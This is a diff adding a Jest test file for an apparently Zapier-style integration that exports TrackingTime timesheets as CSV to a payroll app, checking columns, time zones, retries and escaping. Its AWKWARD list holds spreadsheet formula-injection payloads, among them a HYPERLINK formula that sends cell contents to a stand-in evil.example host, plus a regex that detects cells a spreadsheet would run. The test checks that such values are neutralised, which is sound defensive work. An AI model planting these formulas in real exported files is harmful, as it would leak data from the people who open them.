@@ -1,0 +1,307 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import type { Fire, LocalApp } from '../../lab/apps/local_app.ts';
+import { outputOf } from '../../lab/runs.ts';
+import { defineZap } from '../../lab/zap.ts';
+import { startTrial, type Trial, type Wire } from './trial.ts';
+
+const ZONE = 'America/New_York';
+const RANGE = { from: '2026-03-01', to: '2026-05-31' };
+
+type Line = Record<string, string>;
+
+/** Payroll, which asks for hours and imports the file it is sent. */
+class Payroll implements LocalApp {
+  readonly name = 'Payroll';
+  readonly triggers = { month_closes: { label: 'Month Closes' } };
+  readonly actions = {
+    import_file: {
+      label: 'Import File',
+      perform: async ({ url }: Record<string, unknown>) => {
+        const response = await fetch(String(url));
+        return {
+          type: response.headers.get('content-type'),
+          disposition: response.headers.get('content-disposition'),
+          text: await response.text(),
+        };
+      },
+    },
+  };
+  close: Fire = () => undefined;
+
+  connect(fire: Fire): void {
+    this.close = fire;
+  }
+}
+
+/** Texts that trip up a careless file, or that a spreadsheet would run. */
+const AWKWARD = [
+  'Call with "Northwind", follow-up',
+  'Notes:\n- budget\r\n- timeline',
+  'Müller & Söhne — Größe, 打ち合わせ 🗓️',
+  ' a space in front, and behind ',
+  '"',
+  "'quoted'",
+  '=SUM(A1:A9)',
+  '=HYPERLINK("https://evil.example?"&A1, "click")',
+  '+44 20 7946 0000 called back',
+  '-10% discount talk',
+  '@mention clean-up',
+  '\t=1+1',
+  '\r=1+1',
+] as const;
+
+const RUNS_IN_A_SHEET = /^[=+\-@\t\r]/;
+
+const payroll = new Payroll();
+let trial: Trial;
+let file: Record<string, unknown>;
+let lines: Line[];
+let entries: Map<string, Wire>;
+
+const addEntry = (
+  start_time: string,
+  end_time: string,
+  more: object = {},
+): Promise<Wire> =>
+  trial.api('POST', '/time-entries', { start_time, end_time, ...more });
+
+const everyEntry = async (): Promise<Wire[]> => {
+  const all: Wire[] = [];
+  for (let page = 1; ; page += 1) {
+    const query = new URLSearchParams({
+      ...RANGE,
+      timezone: ZONE,
+      per_page: '200',
+      page: String(page),
+    });
+    const records = await trial.api<Wire[]>(
+      'GET',
+      `/time-entries?${query.toString()}`,
+    );
+    all.push(...records);
+    if (records.length < 200) {
+      return all;
+    }
+  }
+};
+
+const exportTimesheet = defineZap({
+  name: 'Hand the hours to payroll',
+  timezone: ZONE,
+  trigger: { app: 'Payroll', trigger: 'month_closes' },
+  steps: [
+    {
+      name: 'report',
+      app: 'TrackingTime',
+      search: 'detailed_report',
+      fields: { period: 'custom', ...RANGE },
+    },
+    {
+      name: 'imported',
+      app: 'Payroll',
+      action: 'import_file',
+      fields: { url: '{{report.timesheet}}' },
+    },
+  ],
+});
+
+const lineOf = (id: string): Line => {
+  const line = lines.find((each) => each['Entry ID'] === id);
+  if (!line) {
+    throw new Error(`The file has no line for ${id}.`);
+  }
+  return line;
+};
+
+let awkward: { id: string; text: string }[];
+let atMidnight: Wire;
+let overTheGap: Wire;
+let ofACleverProject: Wire;
+
+beforeAll(async () => {
+  trial = await startTrial({
+    entries: 450,
+    until: '2026-06-01',
+    apps: [payroll],
+  });
+  awkward = [];
+  for (const text of AWKWARD) {
+    const { id } = await addEntry(
+      '2026-04-06T13:00:00Z',
+      '2026-04-06T14:00:00Z',
+      {
+        description: text,
+      },
+    );
+    awkward.push({ id, text });
+  }
+  atMidnight = await addEntry('2026-05-01T03:30:00Z', '2026-05-01T04:30:00Z');
+  overTheGap = await addEntry('2026-03-08T06:30:00Z', '2026-03-08T07:30:00Z');
+  const client = await trial.api('POST', '/clients', { name: '+Plus Ltd' });
+  const project = await trial.api('POST', '/projects', {
+    name: '=cmd()',
+    client_id: client.id,
+  });
+  ofACleverProject = await addEntry(
+    '2026-04-07T13:00:00Z',
+    '2026-04-07T13:50:00Z',
+    {
+      project_id: project.id,
+      billable: true,
+    },
+  );
+  entries = new Map((await everyEntry()).map((entry) => [entry.id, entry]));
+
+  const zap = await trial.lab.turnOn(exportTimesheet, trial.connection);
+  payroll.close('month_closes', {});
+  await trial.lab.settled();
+  const [run] = zap.runs;
+  expect(run?.status).toBe('success');
+  // What `import_file` returned, above.
+  file = (run && outputOf(run, 'imported')) as typeof file;
+  lines = parse(String(file.text), { columns: true });
+}, 120_000);
+
+afterAll(async () => {
+  await trial.close();
+});
+
+describe('the timesheet of a detailed report', () => {
+  it('is a CSV file named after its days', () => {
+    expect(file).toMatchObject({
+      type: 'text/csv',
+      disposition: expect.stringContaining(
+        'filename="timesheet_2026-03-01_2026-05-31.csv"',
+      ),
+    });
+  });
+
+  it('has a line for every entry, each once, in the order they began', () => {
+    const ids = lines.map((line) => line['Entry ID']);
+    expect(ids).toHaveLength(entries.size);
+    expect(new Set(ids)).toEqual(new Set(entries.keys()));
+    const begun = ids.map((id) => entries.get(id ?? '')?.start_time as string);
+    expect(begun).toEqual([...begun].sort());
+  });
+
+  it('says of each entry who worked on what, for how long', () => {
+    expect(lineOf(ofACleverProject.id)).toEqual({
+      Date: '2026-04-07',
+      Start: '09:00',
+      End: '09:50',
+      Duration: '0:50:00',
+      Hours: '0.83',
+      Billable: 'yes',
+      User: 'Ada Lovelace',
+      Client: "'+Plus Ltd",
+      Project: "'=cmd()",
+      Task: '',
+      Description: '',
+      'Entry ID': ofACleverProject.id,
+    });
+  });
+
+  it.each(AWKWARD.filter((text) => !RUNS_IN_A_SHEET.test(text)))(
+    'keeps %j as it is',
+    (text) => {
+      const { id = '' } = awkward.find((each) => each.text === text) ?? {};
+      expect(lineOf(id).Description).toBe(text);
+    },
+  );
+
+  it.each(AWKWARD.filter((text) => RUNS_IN_A_SHEET.test(text)))(
+    'keeps a spreadsheet from running %j',
+    (text) => {
+      const { id = '' } = awkward.find((each) => each.text === text) ?? {};
+      expect(lineOf(id).Description).toBe(`'${text}`);
+    },
+  );
+
+  it('has no cell at all that a spreadsheet would run', () => {
+    const dangerous = lines
+      .flatMap((line) => Object.values(line))
+      .filter((cell) => RUNS_IN_A_SHEET.test(cell));
+    expect(dangerous).toEqual([]);
+  });
+
+  it('has the description of every entry, whatever is in it', () => {
+    for (const line of lines) {
+      const entry = entries.get(line['Entry ID'] ?? '');
+      const description = (entry?.description ?? '') as string;
+      const neutral = RUNS_IN_A_SHEET.test(description)
+        ? `'${description}`
+        : description;
+      expect(line.Description).toBe(neutral);
+    }
+  });
+
+  it('has local times: an entry belongs to the day that it is in the zone', () => {
+    expect(lineOf(atMidnight.id)).toMatchObject({
+      Date: '2026-04-30',
+      Start: '23:30',
+      End: '00:30',
+    });
+  });
+
+  it('has the times that clocks showed on the day summer time began', () => {
+    expect(lineOf(overTheGap.id)).toMatchObject({
+      Date: '2026-03-08',
+      Start: '01:30',
+      End: '03:30',
+      Duration: '1:00:00',
+    });
+  });
+});
+
+const write = () =>
+  trial.lab.call(
+    'hydrators.timesheet',
+    { inputData: { ...RANGE, timezone: ZONE } },
+    trial.connection,
+  );
+
+describe('writing the file', () => {
+  it('takes one request for 200 entries', async () => {
+    const asked = await trial.askedDuring(write);
+    expect(asked).toHaveLength(Math.ceil(entries.size / 200));
+  });
+
+  it('happens only when a Zap uses it', async () => {
+    const asked = await trial.askedDuring(() =>
+      trial.lab.invoke(
+        'searches.detailed_report',
+        { period: 'yesterday' },
+        trial.connection,
+      ),
+    );
+    expect(asked).toHaveLength(1);
+  });
+
+  it.each(['reset', 'malformed', 'html'])(
+    'loses nothing when answers are spoiled (%s), and has nothing twice',
+    async (body) => {
+      await trial.control('POST', '/faults', {
+        operation: 'getDetailedReport',
+        body,
+        times: 2,
+      });
+      const { results } = await write();
+      const response = await fetch(String(results));
+      const again = parse(await response.text(), { columns: true }) as Line[];
+      expect(again).toEqual(lines);
+    },
+  );
+
+  it('ends with a sentence when TrackingTime refuses a page, and leaves no half a file', async () => {
+    await trial.control('POST', '/faults', {
+      operation: 'getDetailedReport',
+      status: 403,
+      code: 'forbidden',
+    });
+    await expect(write()).rejects.toMatchObject({
+      kind: 'halted',
+      message: expect.stringContaining('may not do this'),
+    });
+  });
+});
